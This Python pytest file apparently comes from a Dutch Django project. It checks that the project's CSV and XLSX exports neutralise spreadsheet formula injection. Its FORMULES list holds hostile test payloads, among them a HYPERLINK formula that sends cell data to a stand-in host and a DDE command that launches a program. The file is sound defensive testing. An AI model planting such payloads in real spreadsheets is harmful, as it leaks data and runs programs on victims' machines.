# ruff: noqa: F811 - pytest fixtures are imported and then named as parameters
"""Formula injection: no export hands a spreadsheet a cell it would run.

A cell that starts with = + - @ (or a tab or carriage return before one) is a
formula in Excel and LibreOffice: =HYPERLINK(...) leaks data, DDE runs programs.
Every such cell must come out neutralised (prefixed with a quote).

- hulpverlening.csvexport, the one CSV writer: a property test over arbitrary
  rows, read back with the csv module;
- the audit log export (/auditlog/?formaat=csv) with user names and paths that
  start with each dangerous character;
- every export that exists: each view in MATRIX is opened with ?formaat=csv and
  ?formaat=xlsx (and without) after every free-text column of the project was
  filled with formulas; whatever comes back as CSV or XLSX is read back cell by cell.
"""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.db import DatabaseError, models, transaction
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from hulpverlening.csvexport import GEVAARLIJKE_BEGINTEKENS, csv_response, veilige_cel
from hulpverlening.models import Auditregel, Rol

from .conftest import maak_gebruiker
from .kwaadaardig import (  # noqa: F401 - als, sweep, pdf_html, werelden are fixtures
    aanmelden,
    als,
    pdf_html,
    project_apps,
    sweep,
    vraag,
)
from .test_toegangsmatrix import MATRIX, werelden  # noqa: F401

GEVAARLIJK = ("=", "+", "-", "@", "\t", "\r")
FORMULES = [
    '=HYPERLINK("http://x.example/?"&A1;"klik")',
    "=1+2",
    "+32 9 123 45 67",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]
CSV_SOORTEN = ("text/csv", "application/csv")
XLSX_SOORTEN = (
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "application/vnd.ms-excel",
)


def test_the_writer_knows_every_dangerous_first_character():
    assert set(GEVAARLIJK) <= set(GEVAARLIJKE_BEGINTEKENS)


@settings(max_examples=300, database=None, deadline=None)
@given(
    st.one_of(st.text(), st.sampled_from(GEVAARLIJK).flatmap(lambda c: st.text().map(c.__add__)))
)
def test_a_neutralised_cell_never_starts_a_formula_and_keeps_the_text(tekst):
    cel = veilige_cel(tekst)
    assert not cel.startswith(GEVAARLIJK)
    assert cel in (tekst, "'" + tekst)


cellen = st.one_of(
    st.none(),
    st.integers(),
    st.text(),
    st.sampled_from(FORMULES),
    st.sampled_from(GEVAARLIJK).flatmap(lambda c: st.text().map(c.__add__)),
)


@settings(max_examples=150, database=None, deadline=None)
@given(rijen=st.lists(st.lists(cellen, min_size=3, max_size=3), max_size=8))
def test_csv_export_read_back_has_no_formula_cell(rijen):
    response = csv_response("x.csv", ["a", "b", "c"], rijen)
    gelezen = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";")
    )
    assert gelezen[0] == ["a", "b", "c"]
    assert len(gelezen) == len(rijen) + 1
    for rij, terug in zip(rijen, gelezen[1:], strict=True):
        for cel, tekst in zip(rij, terug, strict=True):
            assert not tekst.startswith(GEVAARLIJK), tekst
            origineel = "" if cel is None else str(cel)
            assert tekst in (origineel, "'" + origineel)


def _inhoud(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _lees_csv(response) -> list[list[str]]:
    tekst = _inhoud(response).decode("utf-8-sig")
    scheiding = (
        ";" if tekst.split("\n", 1)[0].count(";") >= tekst.split("\n", 1)[0].count(",") else ","
    )
    return list(csv.reader(io.StringIO(tekst, newline=""), delimiter=scheiding))


def _lees_xlsx(response) -> list[list[object]]:
    boek = openpyxl.load_workbook(io.BytesIO(_inhoud(response)))
    rijen = []
    for blad in boek.worksheets:
        for rij in blad.iter_rows():
            for cel in rij:
                assert cel.data_type != "f", f"{blad.title}!{cel.coordinate} is a formula"
            rijen.append([cel.value for cel in rij])
    return rijen


def _export(response) -> list[list] | None:
    """The cells of a CSV or XLSX answer, or None for anything else."""
    if not hasattr(response, "get") or response.status_code != 200:
        return None
    soort = (response.get("Content-Type") or "").split(";")[0].strip()
    bestand = response.get("Content-Disposition") or ""
    if soort in CSV_SOORTEN or ".csv" in bestand:
        return _lees_csv(response)
    if soort in XLSX_SOORTEN or ".xlsx" in bestand:
        return _lees_xlsx(response)
    return None


def _geen_formules(cellen: list[list], waar: str) -> None:
    for rij in cellen:
        for cel in rij:
            if isinstance(cel, str):
                assert not cel.startswith(GEVAARLIJK), f"{waar}: {cel!r}"


def test_auditlog_export_neutralises_names_and_paths(client, als, beheerder):
    for i, formule in enumerate(FORMULES):
        gebruiker = maak_gebruiker(
            f"gebruiker{i}", beheerder.lidmaatschappen.get().organisatie, Rol.VRIJWILLIGER
        )
        get_user_model().objects.filter(pk=gebruiker.pk).update(username=formule)
        gebruiker.refresh_from_db()
        client.force_login(gebruiker)  # logs "aangemeld" with the user name
        client.logout()
        Auditregel.objects.create(actie=Auditregel.Actie.GEWEIGERD, waar=formule, status=404)
    response = als(beheerder).get(reverse("auditlog"), {"formaat": "csv"})
    assert response.status_code == 200
    cellen = _export(response)
    assert cellen is not None
    _geen_formules(cellen, "auditlog.csv")
    alles = {cel for rij in cellen for cel in rij}
    for formule in FORMULES:
        assert "'" + formule in alles, f"{formule!r} missing from the export"


def _vul_met(formule: str) -> None:
    """Every non-unique free-text column of the project's models := formule (where it fits)."""
    modellen = [m for config in project_apps() for m in config.get_models()]
    for model in [*modellen, get_user_model()]:
        velden = [
            veld.name
            for veld in model._meta.concrete_fields
            if isinstance(veld, (models.CharField, models.TextField))
            and not veld.choices
            and not veld.unique
            and not veld.primary_key
            and (veld.max_length is None or veld.max_length >= len(formule))
            and (model is not get_user_model() or veld.name in ("first_name", "last_name"))
        ]
        if velden:
            try:
                with transaction.atomic():
                    model._base_manager.update(**dict.fromkeys(velden, formule))
            except DatabaseError:  # the audit log is append-only on PostgreSQL
                pass
    Auditregel.objects.create(
        actie=Auditregel.Actie.GEWEIGERD, waar=formule, gebruikersnaam=formule
    )


def _opgeslagen_rapporten_opnieuw_maken() -> None:
    """Reports are files made once; rebuild them from the data that now holds formulas."""
    try:
        from rapportering.models import Rapport
        from rapportering.services import rapport_bouwen
    except ImportError:
        return
    for rapport in Rapport.objects.all():
        Rapport.objects.filter(pk=rapport.pk).update(status=Rapport.Status.WACHTEND)
        rapport_bouwen(rapport=rapport)


def test_every_export_neutralises_formulas_in_stored_data(sweep):
    """Views that answer with CSV or XLSX (the audit log, the monthly reports; later ones too)."""
    exports = []
    _opgeslagen_rapporten_opnieuw_maken()  # so that every format of a report exists
    for naam, regel in sorted(MATRIX.items()):
        if regel.methode != "GET":
            continue
        _, client, url = sweep(naam)
        for parameters in ({}, {"formaat": "csv"}, {"formaat": "xlsx"}):
            # A download named by its extension (/rapporten/1.csv) may exist as .xlsx too.
            for variant in {url, url.replace(".csv", ".xlsx"), url.replace(".xlsx", ".csv")}:
                if _export(vraag(client, "get", variant, parameters)) is not None:
                    exports.append((naam, client, variant, parameters))
    assert any(naam == "auditlog" for naam, *_ in exports), "the audit log export was not found"
    for formule in FORMULES:
        _vul_met(formule)
        _opgeslagen_rapporten_opnieuw_maken()
        gezien = set()
        for naam, client, url, parameters in exports:
            cellen = _export(vraag(client, "get", url, parameters))
            assert cellen is not None, f"{url} {parameters}"
            _geen_formules(cellen, f"{naam} {url} {parameters}")
            gezien |= {cel for rij in cellen for cel in rij if isinstance(cel, str)}
        assert "'" + formule in gezien, f"{formule!r} reached no export"


@pytest.mark.parametrize("formule", ["=1+2", "@SUM(A1)"])
def test_a_spreadsheet_export_if_any_holds_text_not_formulas(formule):
    """openpyxl turns any string starting with '=' into a formula unless told otherwise:
    an XLSX export must write through veilige_cel (or set data_type) like the CSV one."""
    boek = openpyxl.Workbook()
    boek.active.append([veilige_cel(formule)])
    uit = io.BytesIO()
    boek.save(uit)
    cel = openpyxl.load_workbook(io.BytesIO(uit.getvalue())).active["A1"]
    assert cel.data_type != "f" and not str(cel.value).startswith(GEVAARLIJK)
